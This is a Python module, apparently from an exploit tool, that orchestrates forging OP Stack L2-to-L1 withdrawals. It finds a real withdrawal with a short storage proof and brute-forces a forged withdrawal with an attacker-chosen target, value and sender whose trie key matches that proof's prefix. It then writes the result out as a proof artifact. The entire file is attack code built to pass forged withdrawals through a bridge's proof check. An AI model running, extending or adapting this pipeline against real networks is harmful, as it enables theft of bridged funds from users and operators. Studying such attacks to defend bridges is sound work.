import logging
import random
from typing import NamedTuple, Optional

from hexbytes import HexBytes

from .artifact import artifact_path, assemble_artifact, write_artifact
from .custom_errors import ForgedKeyMismatchError
from .hashing import hash_withdrawal
from .keys import trie_key_for_withdrawal
from .scanner import WithdrawalScanner
from .search import build_base_candidate, find_matching_withdrawal, matches_prefix
from .types import (
    BlockHeader,
    ForgedArtifact,
    OutputProposal,
    ScanResult,
    SearchResult,
    WithdrawalSource,
)
from .utils.config import ForgeryConfig

logger = logging.getLogger(__name__)


class PipelineResult(NamedTuple):
    artifact: ForgedArtifact
    output: OutputProposal
    block: BlockHeader
    scan: ScanResult
    search: SearchResult
    forged_withdrawal_hash: HexBytes
    path: Optional[str] = None


class ForgedWithdrawalPipeline:
    """
    Find a real withdrawal with a short storage proof, forge a withdrawal
    whose trie key shares that proof's prefix and package both.

    Parameters
    ----------
    source : WithdrawalSource
        Remote reader (see `OPStackReader`).

    config : ForgeryConfig

    rng : random.Random, optional
        Source of the `gasLimit` jitter. Seed it for reproducible runs.
    """

    def __init__(
        self,
        source: WithdrawalSource,
        config: ForgeryConfig,
        rng: Optional[random.Random] = None,
    ):
        self.source = source
        self.config = config
        self.rng = rng or random.Random()
        self.scanner = WithdrawalScanner(
            source,
            lookback_blocks=config.lookback_blocks,
            max_candidates=config.max_candidates,
            prefix_margin=config.prefix_margin,
        )

    def _proof_block(self) -> tuple[OutputProposal, BlockHeader]:
        output = self.source.get_latest_output()
        block = self.source.get_block(output.l2_block_number)

        logger.info("Latest L2 outputIndex we will prove against: %d", output.index)
        logger.info("L2 block number: %d", block.number)
        logger.info("L2 block hash: %s", block.hash.to_0x_hex())
        logger.info("L2 block stateRoot: %s", block.state_root.to_0x_hex())
        logger.info("Overall output root: %s", output.output_root.to_0x_hex())

        return output, block

    def forge(self, required_prefix: str) -> SearchResult:
        base = build_base_candidate(
            target=self.config.forged_target,
            value=self.config.forged_value,
            nonce=self.config.forged_nonce,
            sender=self.config.forged_sender,
            base_gas_limit=self.config.base_gas_limit,
            gas_jitter=self.config.gas_jitter,
            rng=self.rng,
        )

        return find_matching_withdrawal(
            base,
            required_prefix,
            max_attempts=self.config.max_attempts,
            workers=self.config.workers,
        )

    def run(self, write: bool = True) -> PipelineResult:
        """
        Execute one run end to end.

        Parameters
        ----------
        write : bool
            Persist the artifact under `config.output_dir`.

        Returns
        -------
        PipelineResult
        """
        output, block = self._proof_block()

        scan = self.scanner.scan(block.number)
        search = self.forge(scan.required_prefix)

        forged_hash = hash_withdrawal(search.candidate)
        forged_key = trie_key_for_withdrawal(forged_hash)

        if not matches_prefix(forged_key, scan.required_prefix):
            raise ForgedKeyMismatchError(
                f"Forged trie key 0x{forged_key.hex()} doesn't start with "
                f"{scan.required_prefix} (search index {search.index})"
            )

        logger.info("Found a matching prefix after %d attempts!", search.attempts)
        logger.info("Forged withdrawalHash: %s", forged_hash.to_0x_hex())
        logger.info("Forged trie key: 0x%s", forged_key.hex())

        artifact = assemble_artifact(scan, search, output, block)

        path = None
        if write:
            path = write_artifact(
                artifact,
                artifact_path(self.config.output_dir, self.config.network_prefix),
            )

        return PipelineResult(
            artifact=artifact,
            output=output,
            block=block,
            scan=scan,
            search=search,
            forged_withdrawal_hash=forged_hash,
            path=path,
        )
